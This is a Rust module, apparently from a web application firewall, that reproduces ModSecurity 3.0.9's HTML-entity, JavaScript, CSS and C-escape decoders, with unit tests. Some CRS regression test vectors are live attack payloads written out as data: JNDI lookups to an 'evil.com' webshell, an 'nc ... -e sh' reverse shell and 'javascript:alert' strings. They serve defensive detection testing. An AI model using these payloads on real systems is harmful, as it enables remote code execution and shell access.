//! Escape decoders of embedded languages: `htmlEntityDecode`, `jsDecode`,
//! `cssDecode`, `escapeSeqDecode`.

use super::bytes::{is_c_space, is_hex, is_octal, low_byte_fullwidth, x2c, xsingle};
use memchr::{memchr, memchr2};

// ---------------------------------------------------------------------------
// htmlEntityDecode
// ---------------------------------------------------------------------------

#[inline]
pub(super) fn html_unchanged(input: &[u8]) -> bool {
    memchr(b'&', input).is_none()
}

/// C `strtol` on a run of digits already known to be valid in `radix`, cast
/// to `unsigned char` as v3 does: the low byte of the value, and `0xff` once
/// the value overflows a `long` (strtol saturates at `LONG_MAX`).
fn strtol_low_byte(digits: &[u8], radix: u64) -> u8 {
    const LONG_MAX: u64 = i64::MAX as u64;
    let mut v: u64 = 0;
    for &d in digits {
        let dv = u64::from(xsingle(d));
        match v.checked_mul(radix).and_then(|x| x.checked_add(dv)) {
            Some(x) if x <= LONG_MAX => v = x,
            _ => return LONG_MAX as u8,
        }
    }
    v as u8
}

/// The outcome of looking at an `&`.
enum Entity {
    /// Decoded to one byte; decoding resumes at the index.
    Byte(u8, usize),
    /// Not an entity v3 decodes: copy this many bytes verbatim, then resume.
    Literal(usize),
}

/// Skips one `;` after an entity, if present (v3 does not require it).
#[inline]
fn after_semicolon(input: &[u8], j: usize) -> usize {
    if input.get(j) == Some(&b';') {
        j + 1
    } else {
        j
    }
}

fn entity_at(input: &[u8], p: usize) -> Entity {
    let n = input.len();
    let mut j = p + 1;
    if j >= n {
        return Entity::Literal(1);
    }
    if input[j] == b'#' {
        if j + 1 >= n {
            return Entity::Literal(2);
        }
        j += 1;
        let (radix, copy) = if input[j] == b'x' || input[j] == b'X' {
            if j + 1 >= n {
                return Entity::Literal(3);
            }
            j += 1;
            (16, 3)
        } else {
            (10, 2)
        };
        let k = j;
        while j < n
            && (if radix == 16 {
                is_hex(input[j])
            } else {
                input[j].is_ascii_digit()
            })
        {
            j += 1;
        }
        if j == k {
            return Entity::Literal(copy);
        }
        return Entity::Byte(
            strtol_low_byte(&input[k..j], radix),
            after_semicolon(input, j),
        );
    }
    let k = j;
    while j < n && input[j].is_ascii_alphanumeric() {
        j += 1;
    }
    if j == k {
        return Entity::Literal(1);
    }
    let name = &input[k..j];
    let byte = if name.eq_ignore_ascii_case(b"quot") {
        b'"'
    } else if name.eq_ignore_ascii_case(b"amp") {
        b'&'
    } else if name.eq_ignore_ascii_case(b"lt") {
        b'<'
    } else if name.eq_ignore_ascii_case(b"gt") {
        b'>'
    } else if name.eq_ignore_ascii_case(b"nbsp") {
        0xa0
    } else {
        return Entity::Literal(j - k + 1);
    };
    Entity::Byte(byte, after_semicolon(input, j))
}

/// `htmlEntityDecode` (3.0.9):
///
/// * `&#DDD` and `&#xHHH` / `&#XHHH`, **with or without** the closing `;`,
///   any number of digits, give **one byte**: the low byte of the value
///   (`&#x141;` -> `A`, `&#321;` -> `A`), or `0xff` when the value overflows
///   a C `long`;
/// * the named entities `quot`, `amp`, `lt`, `gt` and `nbsp` (any case, the
///   name being the whole run of ASCII letters and digits after `&`), again
///   with or without `;`; `nbsp` gives the byte `0xa0`;
/// * anything else is copied verbatim (`&#;`, `&#x;`, `&foo;`, `&ltx;`).
///
/// Decoding is a single pass: `&amp;lt;` gives `&lt;`.
///
/// Later v3 releases limit numeric entities to two hex or three decimal
/// digits, and the latest (after the GHSA-cxqf-vgrr-xxrv fix) know about
/// thirty-odd names that map to ASCII punctuation (`&lpar;`, `&colon;`,
/// ...); 3.0.9 does neither.
pub(super) fn html_entity_decode(input: &[u8], out: &mut Vec<u8>) {
    out.reserve(input.len());
    let mut i = 0;
    while let Some(off) = memchr(b'&', &input[i..]) {
        let p = i + off;
        out.extend_from_slice(&input[i..p]);
        match entity_at(input, p) {
            Entity::Byte(b, next) => {
                out.push(b);
                i = next;
            }
            Entity::Literal(len) => {
                out.extend_from_slice(&input[p..p + len]);
                i = p + len;
            }
        }
    }
    out.extend_from_slice(&input[i..]);
}

// ---------------------------------------------------------------------------
// jsDecode
// ---------------------------------------------------------------------------

#[inline]
pub(super) fn js_unchanged(input: &[u8]) -> bool {
    memchr(b'\\', input).is_none()
}

/// The number of octal digits (at most 3) starting at `from`.
#[inline]
fn octal_run(input: &[u8], from: usize) -> usize {
    input.get(from..).map_or(0, |rest| {
        rest.iter().take(3).take_while(|&&b| is_octal(b)).count()
    })
}

/// The value of a run of octal digits (at most three, so at most 511).
#[inline]
fn octal_value(digits: &[u8]) -> u16 {
    digits
        .iter()
        .fold(0u16, |v, &d| v * 8 + u16::from(d - b'0'))
}

/// `jsDecode` (3.0.9):
///
/// * `\uHHHH` (lower-case `u`, four hex digits) gives one byte, computed as
///   `urlDecodeUni` does for `%uHHHH` (low byte; full-width ASCII
///   `\uFF01`-`\uFF5E` to ASCII);
/// * `\xHH` (lower-case `x`) gives the byte;
/// * `\` + 1-3 octal digits gives one byte; a three-digit escape whose first
///   digit is above `3` uses only two digits (`\477` -> `'` + `7`);
/// * `\a \b \f \n \r \t \v` give the control characters; `\` + any other
///   byte gives that byte (`\'` -> `'`, `\u004` -> `u004`, `\X41` -> `X41`);
/// * a `\` at the very end is kept.
pub(super) fn js_decode(input: &[u8], out: &mut Vec<u8>) {
    out.reserve(input.len());
    let n = input.len();
    let mut i = 0;
    while let Some(off) = memchr(b'\\', &input[i..]) {
        let p = i + off;
        out.extend_from_slice(&input[i..p]);
        let next = input.get(p + 1).copied();
        if next == Some(b'u') {
            if let Some(&[h0, h1, h2, h3]) = input.get(p + 2..p + 6) {
                if is_hex(h0) && is_hex(h1) && is_hex(h2) && is_hex(h3) {
                    out.push(low_byte_fullwidth(h0, h1, h2, h3));
                    i = p + 6;
                    continue;
                }
            }
        }
        if next == Some(b'x') {
            if let Some(&[h, l]) = input.get(p + 2..p + 4) {
                if is_hex(h) && is_hex(l) {
                    out.push(x2c(h, l));
                    i = p + 4;
                    continue;
                }
            }
        }
        let Some(c) = next else {
            // A backslash at the end is kept.
            out.push(b'\\');
            i = n;
            break;
        };
        if is_octal(c) {
            let mut j = octal_run(input, p + 1);
            if j == 3 && c > b'3' {
                j = 2;
            }
            out.push(octal_value(&input[p + 1..p + 1 + j]) as u8);
            i = p + 1 + j;
            continue;
        }
        out.push(match c {
            b'a' => 0x07,
            b'b' => 0x08,
            b'f' => 0x0c,
            b'n' => b'\n',
            b'r' => b'\r',
            b't' => b'\t',
            b'v' => 0x0b,
            other => other,
        });
        i = p + 2;
    }
    out.extend_from_slice(&input[i..]);
}

// ---------------------------------------------------------------------------
// cssDecode
// ---------------------------------------------------------------------------

/// `cssDecode` changes nothing without a backslash, except that it cuts the
/// value at a NUL byte (see [`css_decode`]).
#[inline]
pub(super) fn css_unchanged(input: &[u8]) -> bool {
    memchr2(b'\\', 0, input).is_none()
}

/// `cssDecode` (3.0.9), CSS 2.1 escapes:
///
/// * `\` + 1 to 6 hex digits gives **one byte**: one digit gives its value,
///   otherwise the last two digits; for 4 digits, and for 5 or 6 digits with
///   leading zeros, full-width ASCII `FF01`-`FF5E` is mapped to ASCII as in
///   `urlDecodeUni` (`\ff21` and `\0ff21` -> `A`, `\1ff21` -> `!`); one
///   whitespace byte after the hex digits is consumed (`\41 B` -> `AB`);
/// * `\` + newline is removed (line continuation), `\` + any other byte
///   gives that byte, a `\` at the end is removed;
/// * **the result is cut at its first NUL byte**, whether the NUL came from
///   the input or from an escape (`\0`): 3.0.9 builds its result string from
///   a C string. Later v3 releases keep NUL bytes.
pub(super) fn css_decode(input: &[u8], out: &mut Vec<u8>) {
    out.reserve(input.len());
    let n = input.len();
    let mut i = 0;
    while let Some(off) = memchr2(b'\\', 0, &input[i..]) {
        let p = i + off;
        out.extend_from_slice(&input[i..p]);
        if input[p] == 0 {
            // Everything from here on is cut off.
            return;
        }
        let s = p + 1;
        if s >= n {
            // Trailing backslash: removed.
            i = n;
            break;
        }
        let j = input[s..]
            .iter()
            .take(6)
            .take_while(|&&b| is_hex(b))
            .count();
        if j == 0 {
            match input[s] {
                b'\n' => {}
                0 => return,
                b => out.push(b),
            }
            i = s + 1;
            continue;
        }
        let d = &input[s..s + j];
        let byte = match j {
            1 => xsingle(d[0]),
            2 | 3 => x2c(d[j - 2], d[j - 1]),
            4 => low_byte_fullwidth(d[0], d[1], d[2], d[3]),
            5 if d[0] == b'0' => low_byte_fullwidth(d[1], d[2], d[3], d[4]),
            6 if d[0] == b'0' && d[1] == b'0' => low_byte_fullwidth(d[2], d[3], d[4], d[5]),
            _ => x2c(d[j - 2], d[j - 1]),
        };
        if byte == 0 {
            return;
        }
        out.push(byte);
        i = s + j;
        if i < n && is_c_space(input[i]) {
            i += 1;
        }
    }
    out.extend_from_slice(&input[i..]);
}

// ---------------------------------------------------------------------------
// escapeSeqDecode
// ---------------------------------------------------------------------------

#[inline]
pub(super) fn escape_seq_unchanged(input: &[u8]) -> bool {
    memchr(b'\\', input).is_none()
}

/// `escapeSeqDecode` (ANSI C escapes, 3.0.9):
///
/// * `\a \b \f \n \r \t \v \\ \? \' \"`;
/// * `\xHH` or `\XHH` (two hex digits) gives the byte;
/// * `\` + 1-3 octal digits gives the low byte of the value (`\101` -> `A`,
///   `\777` -> `0xff`, `\400` -> `0x00`; unlike `jsDecode` there is no
///   two-digit fallback);
/// * any other escape **drops the backslash** and keeps the byte after it
///   (`\q` -> `q`, `\x4g` -> `x4g`); a `\` at the very end is kept.
pub(super) fn escape_seq_decode(input: &[u8], out: &mut Vec<u8>) {
    out.reserve(input.len());
    let mut i = 0;
    while let Some(off) = memchr(b'\\', &input[i..]) {
        let p = i + off;
        out.extend_from_slice(&input[i..p]);
        let Some(&c) = input.get(p + 1) else {
            out.push(b'\\');
            i = p + 1;
            break;
        };
        let simple = match c {
            b'a' => Some(0x07),
            b'b' => Some(0x08),
            b'f' => Some(0x0c),
            b'n' => Some(b'\n'),
            b'r' => Some(b'\r'),
            b't' => Some(b'\t'),
            b'v' => Some(0x0b),
            b'\\' | b'?' | b'\'' | b'"' => Some(c),
            _ => None,
        };
        if let Some(b) = simple {
            out.push(b);
            i = p + 2;
            continue;
        }
        if c == b'x' || c == b'X' {
            if let Some(&[h, l]) = input.get(p + 2..p + 4) {
                if is_hex(h) && is_hex(l) {
                    out.push(x2c(h, l));
                    i = p + 4;
                    continue;
                }
            }
        } else if is_octal(c) {
            let j = octal_run(input, p + 1);
            out.push(octal_value(&input[p + 1..p + 1 + j]) as u8);
            i = p + 1 + j;
            continue;
        }
        out.push(c);
        i = p + 2;
    }
    out.extend_from_slice(&input[i..]);
}

#[cfg(test)]
mod tests {
    use super::super::tests::check;
    use super::super::Transform as T;

    #[test]
    fn html_entity_decode() {
        check(
            T::HtmlEntityDecode,
            &[
                (b"", b""),
                (b"abc", b"abc"),
                (b"&lt;script&gt;", b"<script>"),
                (b"&LT;&Gt;&QuOt;&AMP;", b"<>\"&"),
                (b"&quot;&amp;&lt;&gt;&nbsp;", b"\"&<>\xa0"),
                (b"&ltscript&gt", b"&ltscript>"),
                (b"&lt &gt", b"< >"),
                (b"&lt1;", b"&lt1;"),
                (b"&ltx;", b"&ltx;"),
                (b"&foo;", b"&foo;"),
                (b"&apos;", b"&apos;"),
                (b"&lpar;&colon;", b"&lpar;&colon;"),
                (b"&amp;lt;", b"&lt;"),
                (b"&&amp;", b"&&"),
                (b"&", b"&"),
                (b"a&", b"a&"),
                (b"&;", b"&;"),
                (b"& lt;", b"& lt;"),
                // Numeric entities.
                (b"&#65;", b"A"),
                (b"&#65", b"A"),
                (b"&#65B", b"AB"),
                (b"&#065;", b"A"),
                (b"&#x41;", b"A"),
                (b"&#X41;", b"A"),
                (b"&#x41", b"A"),
                (b"&#x6a;&#x61;&#x76;&#x61;", b"java"),
                (b"&#x4A&#x41", b"JA"),
                (b"&#0;", b"\0"),
                (b"&#x0;", b"\0"),
                (b"&#256;", b"\0"),
                (b"&#321;", b"A"),
                (b"&#x141;", b"A"),
                (b"&#x100000041;", b"A"),
                (b"&#99999999999999999999;", b"\xff"),
                (b"&#xffffffffffffffffff;", b"\xff"),
                (b"&#x7fffffffffffffff;", b"\xff"),
                (b"&#x7ffffffffffffff41;", b"\xff"),
                (b"&#9223372036854775807;", b"\xff"),
                (b"&#9223372036854775808;", b"\xff"),
                (b"&#x7FFFFFFFFFFFFF41;", b"A"),
                (b"&#;", b"&#;"),
                (b"&#", b"&#"),
                (b"&#x", b"&#x"),
                (b"&#x;", b"&#x;"),
                (b"&#xg;", b"&#xg;"),
                (b"&#a;", b"&#a;"),
                (b"&#-1;", b"&#-1;"),
                (b"&#x&#x41;", b"&#xA"),
                (b"\xff&lt;\0", b"\xff<\0"),
                (b"&#x41;;", b"A;"),
            ],
        );
    }

    /// CRS regression tests of rules that apply `htmlEntityDecode`.
    #[test]
    fn html_entity_decode_crs() {
        check(
            T::HtmlEntityDecode,
            &[
                // 941210-1 (after ARGS decoding): `&tab;` is not decoded by v3.
                (b"ja&tab;vascript: ", b"ja&tab;vascript: "),
                // 941210-4 and 941210-5: numeric entities without `;`.
                (b"javascript&#10:alert(7)", b"javascript\n:alert(7)"),
                (b"jav&#13ascript:alert(7)", b"jav\rascript:alert(7)"),
                // 944150-* (`%24&lcub;\u006A&#110;di:...`, after the JSON
                // parser, urlDecodeUni and jsDecode).
                (
                    b"$&lcub;j&#110;di:ldap://evil.com/webshell}",
                    b"$&lcub;jndi:ldap://evil.com/webshell}",
                ),
                // 944150-*: `&#36;{jndi:...}`.
                (
                    b"&#36;{jndi:ldap://evil.com/webshell}",
                    b"${jndi:ldap://evil.com/webshell}",
                ),
            ],
        );
    }

    #[test]
    fn js_decode() {
        check(
            T::JsDecode,
            &[
                (b"", b""),
                (b"abc", b"abc"),
                (b"\\u0041", b"A"),
                (b"\\u0041\\u0042", b"AB"),
                (b"\\u00e9", b"\xe9"),
                (b"\\u1234", b"\x34"),
                (b"\\uff21", b"A"),
                (b"\\uFF01\\uff5e", b"!~"),
                (b"\\uff5f", b"\x5f"),
                (b"\\uff00", b"\0"),
                (b"\\U0041", b"U0041"),
                (b"\\u004", b"u004"),
                (b"\\u004g", b"u004g"),
                (b"\\u", b"u"),
                (b"\\x41", b"A"),
                (b"\\x4a\\x4A", b"JJ"),
                (b"\\X41", b"X41"),
                (b"\\x4", b"x4"),
                (b"\\x4g", b"x4g"),
                (b"\\x", b"x"),
                (b"\\101", b"A"),
                (b"\\0", b"\0"),
                (b"\\00", b"\0"),
                (b"\\000", b"\0"),
                (b"\\0000", b"\x000"),
                (b"\\1", b"\x01"),
                (b"\\12", b"\n"),
                (b"\\377", b"\xff"),
                (b"\\400", b"\x200"),
                (b"\\477", b"'7"),
                (b"\\777", b"?7"),
                (b"\\18", b"\x018"),
                (b"\\8", b"8"),
                (b"\\a\\b\\f\\n\\r\\t\\v", b"\x07\x08\x0c\n\r\t\x0b"),
                (b"\\'\\\"\\\\\\?", b"'\"\\?"),
                (b"\\q\\ \\/", b"q /"),
                (b"\\", b"\\"),
                (b"a\\", b"a\\"),
                (b"\\\\", b"\\"),
                (b"\\\\x41", b"\\x41"),
                (b"\\\xff", b"\xff"),
                (b"\\\0", b"\0"),
                (b"\\N", b"N"),
            ],
        );
    }

    /// CRS regression tests of rules that apply `jsDecode`.
    #[test]
    fn js_decode_crs() {
        check(
            T::JsDecode,
            &[
                // 934100-12: `c%5Cu006fnsole.info(1)` after ARGS decoding.
                (b"c\\u006fnsole.info(1)", b"console.info(1)"),
            ],
        );
    }

    #[test]
    fn css_decode() {
        check(
            T::CssDecode,
            &[
                (b"", b""),
                (b"abc", b"abc"),
                (b"\\41", b"A"),
                (b"\\041", b"A"),
                (b"\\0041", b"A"),
                (b"\\00041", b"A"),
                (b"\\000041", b"A"),
                (b"\\0000041", b"\x041"),
                (b"\\4", b"\x04"),
                (b"\\a", b"\x0a"),
                (b"\\A", b"\x0a"),
                (b"\\1234", b"\x34"),
                (b"\\123456", b"\x56"),
                (b"\\ff21", b"A"),
                (b"\\FF21", b"A"),
                (b"\\0ff21", b"A"),
                (b"\\00ff21", b"A"),
                (b"\\1ff21", b"!"),
                (b"\\01ff21", b"!"),
                (b"\\ff5f", b"\x5f"),
                (b"\\ff00x", b""),
                (b"\\41 B", b"AB"),
                (b"\\41  B", b"A B"),
                (b"\\41\tB", b"AB"),
                (b"\\41\nB", b"AB"),
                (b"\\41\x0bB", b"AB"),
                (b"\\41\xa0B", b"A\xa0B"),
                (b"\\41x", b"Ax"),
                (b"\\g", b"g"),
                (b"\\\\", b"\\"),
                (b"\\ ", b" "),
                (b"a\\\nb", b"ab"),
                (b"a\\\r\nb", b"a\r\nb"),
                (b"a\\", b"a"),
                (b"\\", b""),
                (b"\\\xff", b"\xff"),
                (b"ja\\vascript", b"javascript"),
                (b"ja\\76 ascript", b"javascript"),
                (b"ja\\0076ascript", b"jajscript"),
                (b"j\\61vascript", b"javascript"),
                // The result is cut at the first NUL byte.
                (b"a\0b", b"a"),
                (b"\0", b""),
                (b"a\\0b", b"a\x0b"),
                (b"a\\0 b", b"a"),
                (b"a\\00 b", b"a"),
                (b"a\\\0b", b"a"),
            ],
        );
    }

    #[test]
    fn escape_seq_decode() {
        check(
            T::EscapeSeqDecode,
            &[
                (b"", b""),
                (b"abc", b"abc"),
                (b"\\a\\b\\f\\n\\r\\t\\v", b"\x07\x08\x0c\n\r\t\x0b"),
                (b"\\\\\\?\\'\\\"", b"\\?'\""),
                (b"\\x41", b"A"),
                (b"\\X41", b"A"),
                (b"\\x4a\\x4A", b"JJ"),
                (b"\\x4", b"x4"),
                (b"\\x4g", b"x4g"),
                (b"\\xg4", b"xg4"),
                (b"\\x", b"x"),
                (b"\\101", b"A"),
                (b"\\0", b"\0"),
                (b"\\1010", b"A0"),
                (b"\\377", b"\xff"),
                (b"\\400", b"\0"),
                (b"\\477", b"\x3f"),
                (b"\\777", b"\xff"),
                (b"\\18", b"\x018"),
                (b"\\8", b"8"),
                (b"\\q", b"q"),
                (b"\\u0041", b"u0041"),
                (b"\\", b"\\"),
                (b"a\\", b"a\\"),
                (b"\\\xff", b"\xff"),
                (b"\\\0", b"\0"),
            ],
        );
    }

    /// CRS regression tests of rules that apply `escapeSeqDecode`.
    #[test]
    fn escape_seq_decode_crs() {
        check(
            T::EscapeSeqDecode,
            &[
                // 932210-1: `;\n.shell nc ...\n` with a literal backslash-n.
                (
                    b";\\n.shell nc 10.10.10.1 6666 -e sh\\n",
                    b";\n.shell nc 10.10.10.1 6666 -e sh\n",
                ),
            ],
        );
    }
}
